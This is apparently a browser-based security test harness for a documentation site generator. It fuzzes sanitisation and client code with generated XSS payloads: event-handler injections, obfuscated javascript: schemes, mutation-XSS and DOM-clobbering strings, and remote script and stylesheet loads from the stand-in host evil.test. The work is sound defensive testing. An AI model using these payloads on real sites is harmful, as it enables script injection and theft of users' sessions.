/**
 * Hostile pages and hostile data in a real browser. Whatever runs calls one of the functions that tell: `alert` and its like,
 * `fired`. A `plant` trusts the writers of the pages.
 */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { launch } from '../bench/browser.mjs';
import { ended, folder, pagesOf, pick, randomOf, run, start, write } from './site.mjs';

const CALLS = [
  'alert(1)',
  'fired(1)',
  'confirm`1`',
  'import("https://evil.test/x.js")',
  'open("//evil.test")',
];
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onanimationstart',
  'onpointerover',
  'ONERROR',
];
const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java&#10;script:',
    '&#106;avascript:',
    '\u0001javascript:',
  ],
  ...[
    'javascript&colon;',
    'data:text/html,<script>',
    'vbscript:',
    ' javascript:',
    'javascript://%0a',
    '//evil.test/?',
  ],
];
const ELEMENTS = [
  ...[
    'img',
    'svg',
    'video',
    'audio',
    'iframe',
    'object',
    'embed',
    'details open',
    'input autofocus',
    'body',
    'form',
  ],
  ...[
    'math',
    'style',
    'link rel=stylesheet',
    'meta http-equiv=refresh',
    'base',
    'a',
    'div',
    'script',
    'template',
    'select',
  ],
];

/** One way of getting a call run. */
const attack = (random) => {
  const call = pick(random, CALLS);
  const event = pick(random, EVENTS);
  const scheme = pick(random, SCHEMES);
  const element = pick(random, ELEMENTS);
  const name = element.split(' ')[0];
  return pick(random, [
    `<${element} src=x ${event}=${call}>`,
    `<${element} ${event}="${call}" tabindex=0>x</${name}>`,
    `<${element}/${event}='${call}'/src>`,
    `<a href="${scheme}${call}">x</a>`,
    `[x](<${scheme}${call}>)`,
    `![x](<${scheme}${call}>)`,
    `[x][r]\n\n[r]: <${scheme}${call}>`,
    `<${scheme.trim()}${call}>`,
    `<script>${call}</script>`,
    `<scr<script>ipt>${call}</script>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><a xlink:href="${scheme}${call}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x ${event}=${call}>`,
    `<style>@import "//evil.test/x.css"; * { background: url(//evil.test) }</style>`,
    `<div style="background:url(//evil.test);animation:x" ${event}="${call}">x</div>`,
    `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
    `<form action="${scheme}${call}"><button formaction="${scheme}${call}">x</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${scheme}${call}">`,
    `<base href="https://evil.test/">`,
    `<noscript><p title="</noscript><img src=x ${event}=${call}>">`,
    `<!--><img src=x ${event}=${call}>-->`,
    `<jd-code data-x="1" ${event}="${call}">x</jd-code>`,
    `<span data-jd-raw="0" data-island="x" data-props="{}" ${event}="${call}">x</span>`,
    `# x {#"${event}=${call}}\n`,
    `:::tip[<img src=x ${event}=${call}>]{${event}="${call}" title="<img src=x ${event}=${call}>"}\nx\n:::\n`,
    `\`\`\`js title="<img src=x ${event}=${call}>"\n</code></pre><script>${call}</script>\n\`\`\``,
    `\`\`\`mermaid\ngraph TD\n  A["<img src=x ${event}=${call}>"] --> B\n\`\`\``,
    `$\\href{${scheme}${call}}{x}$ $\\text{<img src=x ${event}=${call}>}$`,
    `| <img src=x ${event}=${call}> | b |\n|-|-|\n| [x](<${scheme}${call}>) | \u0001 |`,
    `[^1]\n\n[^1]: <img src=x ${event}=${call}>`,
    `export const x = ${call}\n\n{${call}}\n`,
    `<Tabs values={${call}}><TabItem value="${event}" label={${call}}>x</TabItem></Tabs>`,
    `<Head><script>{"${call}"}</script></Head>`,
    `<input name=getElementById><form id=location name=body><img name=cookie id=currentScript>`,
  ]);
};

/** Front matter that reaches head, sidebar and search. */
const hostileHead = (random) =>
  `---\n${pick(random, ['title', 'description', 'sidebar_label', 'keywords', 'image', 'pagination_label', 'slug', 'custom_edit_url'])}: ${JSON.stringify(`</script><img src=x onerror=${pick(random, CALLS)}>`)}\n---\n`;

/** Begins what a page's scripts say of what ran: the console is heard beyond the life of a page. */
const TOLD = 'told: ';

/** Makes whatever runs tell. */
function tellAll(told) {
  const tell = (what) => console.debug(`${told}${what}`);
  window.fired = (what) => tell(`fired ${what}`);
  for (const name of ['alert', 'confirm', 'prompt', 'open'])
    window[name] = () => {
      tell(name);
      return null;
    };
}

/** What in a page could run when somebody clicks. */
function dangers() {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    for (const { name } of element.attributes)
      if (/^on/i.test(name)) found.push(`${element.tagName} ${name}`);
    for (const name of ['href', 'src', 'action', 'formAction', 'data']) {
      const value = element[name]?.baseVal ?? element[name];
      if (typeof value === 'string' && /^(?:javascript|vbscript|data:text\/html)/i.test(value.trim()))
        found.push(`${element.tagName} ${name}=${value.slice(0, 60)}`);
    }
    if (/^(?:OBJECT|EMBED|BASE)$/.test(element.tagName)) found.push(element.tagName);
  }
  return found;
}

async function openSite(dir, args = []) {
  const port = 40_000 + Math.floor(Math.random() * 20_000);
  const child = start(dir, ['serve', '--port', String(port), ...args]);
  const origin = `http://localhost:${port}`;
  for (const until = performance.now() + 30_000; performance.now() < until; ) {
    if (
      await fetch(origin).then(
        ({ ok }) => ok,
        () => false,
      )
    )
      break;
    await new Promise((done) => setTimeout(done, 100));
  }
  return {
    origin,
    async close() {
      child.kill('SIGKILL');
      await ended(child);
    },
  };
}

/** What a browser did that it should not: loads from elsewhere, leaving the page. */
function watch(page, origin) {
  const seen = [];
  page.on('request', (request) => {
    const url = request.url();
    // Writers may show pictures of other hosts.
    if (/^(?:image|media)$/.test(request.resourceType())) return;
    if (!url.startsWith(origin) && !/^(?:data|blob|about):/.test(url))
      seen.push(`asked for ${url.slice(0, 80)}`);
  });
  page.on('console', (message) => {
    const text = message.text();
    if (text.startsWith(TOLD)) seen.push(text.slice(TOLD.length));
  });
  page.on('popup', () => seen.push('opened a window'));
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  return seen;
}

/** Hostile pages, each looked at with the policy of the site and without. */
export async function hostile({ count, seed, plant }) {
  const random = randomOf(seed);
  const result = { runs: 0, faults: [], stats: { withPolicy: 0, withoutPolicy: 0 } };
  const files = { 'docs/index.md': '# Home\n' };
  for (let at = 0; at < count; at += 1) {
    const attacks = Array.from({ length: 1 + Math.floor(random() * 5) }, () => attack(random)).join('\n\n');
    const path = `docs/h${at}.${at % 5 === 4 ? 'mdx' : 'md'}`;
    files[path] = `${random() < 0.3 ? hostileHead(random) : ''}# Page\n\n${attacks}\n`;
    if (plant) files[path] = '# Page\n\n<script>fired(1)</script>\n';
  }
  const browser = await launch();
  try {
    for (const csp of ['strict', false]) {
      const { dir, remove } = folder();
      const config = {
        ...{ title: 'T', csp, onBrokenLinks: 'ignore', onBrokenImages: 'ignore', onBrokenAnchors: 'ignore' },
        ...{ onBrokenMarkdownLinks: 'ignore', onDuplicateRoutes: 'ignore' },
        markdown: { html: plant ? 'trusted' : 'sanitize', mdx: 'static', math: true, mermaid: true },
      };
      write(dir, { ...files, 'jstz-docs.config.json': JSON.stringify(config) });
      // What a build refuses is not shown to anybody.
      const check = run(dir, ['check-links', '--no-cache', '--format', 'json']);
      const found = JSON.parse(check.text.slice(check.text.indexOf('{'), check.text.lastIndexOf('}') + 1));
      const refused = new Set(
        found.diagnostics.flatMap((one) => (one.severity === 'error' ? [one.file] : [])),
      );
      for (const file of refused) rmSync(join(dir, file));
      const { code, text } = run(dir, ['build']);
      if (code !== 0) {
        result.faults.push(`csp ${csp}: ended with ${code}: ${text.slice(-1500)}`);
        remove();
        continue;
      }
      const site = await openSite(dir);
      for (let at = 0; at < count; at += 1) {
        if (refused.has(`docs/h${at}.md`) || refused.has(`docs/h${at}.mdx`)) continue;
        const page = await browser.newPage();
        const seen = watch(page, site.origin);
        await page.addInitScript(tellAll, TOLD);
        const answer = await page.goto(`${site.origin}/h${at}`, { waitUntil: 'load' });
        // One whose front matter gives it another address is not looked at.
        if (answer?.status() !== 200) {
          await page.close();
          continue;
        }
        const before = page.url();
        await page.mouse.move(200, 300);
        await page.keyboard.press('Tab');
        await page.waitForTimeout(20);
        seen.push(...(await page.evaluate(dangers)));
        if (page.url() !== before) seen.push(`left for ${page.url()}`);
        if (seen.length > 0)
          result.faults.push(
            `csp ${csp}: ${[...new Set(seen)].join(', ')}: ${JSON.stringify(files[`docs/h${at}.md`] ?? files[`docs/h${at}.mdx`])}`,
          );
        await page.close();
        result.stats[csp ? 'withPolicy' : 'withoutPolicy'] += 1;
      }
      await site.close();
      remove();
    }
  } finally {
    await browser.close();
  }
  result.runs = result.stats.withPolicy;
  return result;
}

const HOSTILE_VALUES = [
  ...[
    '',
    '{',
    '[]',
    '{}',
    'null',
    '0',
    '"x"',
    '[null]',
    '[[[[]]]]',
    '{"__proto__":{"x":1}}',
    'a'.repeat(100_000),
  ],
  ...[
    '<img src=x onerror=fired(1)>',
    '"><script>fired(1)</script>',
    'javascript:fired(1)',
    '[{"url":"javascript:fired(1)"}]',
  ],
  ...[
    '[{"url":"//evil.test","title":"<img src=x onerror=fired(1)>","query":"x"}]',
    '-1',
    '1e999',
    '\0',
    '\ud800',
  ],
  '{"html":"<img src=x onerror=fired(1)>"}',
];
const STORES = [
  ...['theme', 'docusaurus.announcement.dismiss', 'docusaurus.announcement.id', 'docusaurus.tab.os'],
  ...['jstz-docs.code.wrap', 'jstz-docs.sidebar.scroll', 'jstz-docs.scroll', 'jstz-docs.reloaded'],
  ...[
    'docs-preferred-version-default',
    '__DOCSEARCH_RECENT_SEARCHES__jstz-docs',
    '__DOCSEARCH_FAVORITE_SEARCHES__jstz-docs',
  ],
];

/** What a client that believes what it is given would show. */
const PLANTED = '<img src=x onerror="fired(\'planted\')">';

/** A file as it might arrive: cut, changed, replaced, with markup in its texts. */
function spoilBody(random, text) {
  const way = Math.floor(random() * 5);
  const at = Math.floor(random() * text.length);
  if (way === 0) return text.slice(0, at);
  if (way === 1) return pick(random, HOSTILE_VALUES);
  if (way === 2)
    return text.replaceAll(/"[^"\\]{3,}"/g, (word) =>
      random() < 0.3 ? '"<img src=x onerror=fired(1)>"' : word,
    );
  if (way === 3)
    return text.replaceAll(/\d+/g, (number) =>
      random() < 0.2 ? pick(random, ['-1', '1e9', '0', '99999']) : number,
    );
  return text.slice(0, at) + pick(random, HOSTILE_VALUES) + text.slice(at);
}

/** Stores, addresses, messages and files that others wrote: nothing of them runs, and the page is still there. */
export async function client({ count, seed, pages, plant }) {
  const random = randomOf(seed);
  const result = { runs: 0, faults: [], stats: { spoilt: 0 } };
  const { dir, remove } = folder();
  write(dir, {
    ...pagesOf(pages, 'word'),
    'docs/tabs.md':
      '# Tabs\n\n<Tabs groupId="os"><TabItem value="a">A</TabItem><TabItem value="b">B</TabItem></Tabs>\n',
    'jstz-docs.config.json': JSON.stringify({ title: 'T', csp: false }),
  });
  const { code, text } = run(dir, ['build']);
  if (code !== 0) throw new Error(text);
  const site = await openSite(dir);
  const browser = await launch();
  try {
    for (let at = 0; at < count; at += 1) {
      const stores = STORES.filter(() => random() < 0.5).map((key) => [key, pick(random, HOSTILE_VALUES)]);
      const page = await browser.newPage();
      const seen = watch(page, site.origin);
      const errors = [];
      page.on('pageerror', ({ message }) => {
        // Told on purpose, before the browser loads the page itself.
        if (!/^The file of ".*" is no page of this site/.test(message)) errors.push(message);
      });
      await page.addInitScript(tellAll, TOLD);
      await page.addInitScript((entries) => {
        for (const [key, value] of entries)
          for (const store of [localStorage, sessionStorage]) store.setItem(key, value);
      }, stores);
      const spoils = random() < 0.7;
      await page.route('**/*', async (route) => {
        const request = route.request();
        if (!spoils || request.resourceType() !== 'fetch' || random() < 0.3)
          return route.continue().catch(() => {});
        try {
          const response = await route.fetch();
          const body = spoilBody(random, await response.text());
          await route.fulfill({ response, body });
          result.stats.spoilt += 1;
        } catch (error) {
          // The page was left meanwhile.
          if (!/disposed|closed|aborted|handled/i.test(error.message)) throw error;
        }
      });
      const tail = pick(random, [
        '',
        '#<img src=x onerror=fired(1)>',
        '#%',
        '#__proto__',
        '?q=<script>fired(1)</script>',
        '?x=javascript:fired(1)#:~:text=a',
      ]);
      await page.goto(`${site.origin}/${pick(random, ['', 'p0', 'tabs', 'search', 'nowhere'])}${tail}`, {
        waitUntil: 'load',
      });
      await page.evaluate((value) => window.postMessage(value, '*'), pick(random, HOSTILE_VALUES));
      await page.keyboard.press('Control+k');
      await page.waitForTimeout(100);
      await page.keyboard.type(pick(random, ['page', 'word', '<img', '__proto__']));
      await page.waitForTimeout(150);
      if (plant) {
        const told = page.waitForEvent('console', (message) => message.text().startsWith(TOLD));
        await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), PLANTED);
        await told;
      }
      await page.keyboard.press('Enter');
      await page.waitForTimeout(150);
      // Enter may lead to a hit: what stands there counts too.
      await page.waitForLoadState('load');
      seen.push(...(await page.evaluate(dangers).catch((error) => [String(error)])));
      const isThere = await page.evaluate(
        () => (document.querySelector('main')?.textContent ?? '').trim() !== '',
      );
      if (!isThere) seen.push('an empty page');
      if (errors.length > 0) seen.push(`uncaught: ${errors[0]}`);
      if (seen.length > 0)
        result.faults.push(
          `${[...new Set(seen)].join(', ')} (${page.url()}, ${JSON.stringify(stores).slice(0, 200)})`,
        );
      await page.close();
      result.runs += 1;
    }
  } finally {
    await browser.close();
    await site.close();
    remove();
  }
  return result;
}
